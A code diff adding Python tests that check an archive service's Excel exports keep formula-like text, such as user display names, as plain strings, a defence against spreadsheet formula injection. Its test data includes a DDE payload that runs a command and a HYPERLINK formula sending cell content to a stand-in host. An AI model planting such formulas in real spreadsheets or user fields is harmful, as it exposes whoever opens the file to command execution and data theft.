@@ -4,7 +4,9 @@ imports (Calamine allocated a slot per cell up to it); a CSV cell over 131,072 c
 six imports. The sheet's reach is bounded before it is read, and every import names the problem."""
 
 import io
+import re
 import zipfile
+from pathlib import Path
 
 import httpx
 import pytest
@@ -204,3 +206,50 @@ def test_the_probe_workbook_through_every_import_of_a_running_server(client, log
     finally:
         _kill(proc)
     assert "Traceback" not in (tmp_path / "serve.log").read_text()
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"点此核对")', "=cmd|' /C calc'!A0", "=1+2"]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text():
+    """Issue 40 (Medium): what we export is data. A name typed as a formula stays the text it is in Excel."""
+    from openpyxl import load_workbook
+
+    book = Workbook()
+    book.active.append(["姓名", *FORMULAS, 42])
+    opened = load_workbook(io.BytesIO(workbooks.workbook_bytes(book))).active
+    cells = list(opened.iter_rows(values_only=False))[0]
+    assert [c.value for c in cells] == ["姓名", *FORMULAS, 42]
+    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n"]
+
+
+def test_no_module_saves_a_workbook_but_through_workbook_bytes():
+    """One place writes .xlsx files, so no export can forget the rule above."""
+    root = Path(__file__).resolve().parents[2] / "archive_service"
+    saving = re.compile(r"\b(book|wb|workbook|sheet)\.save\(")
+    found = [
+        f"{path.relative_to(root)}:{n}"
+        for path in root.rglob("*.py")
+        if path.name != "workbooks.py"
+        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
+        if saving.search(line)
+    ]
+    assert found == []
+
+
+def test_a_display_name_typed_as_a_formula_reaches_the_auditors_register_as_text(client, login):
+    """The probe's case: a display name that is a DDE formula, on every line of the 利用登记 the auditor exports."""
+    from openpyxl import load_workbook
+    from sqlalchemy import update
+
+    from archive_service import db
+    from archive_service.auth.models import User
+
+    with db.transaction() as session:
+        session.execute(update(User).where(User.username == "approver").values(display_name=FORMULAS[1]))
+    login("approver")  # a login, on the log under that name
+    exported = client.get("/api/audit/log.xlsx", headers=login("auditor"))
+    assert exported.status_code == 200, exported.text[:300]
+    sheet = load_workbook(io.BytesIO(exported.content)).active
+    named = [row[2] for row in sheet.iter_rows(min_row=2) if row[2].value == FORMULAS[1]]
+    assert named and all(c.data_type == "s" for c in named)
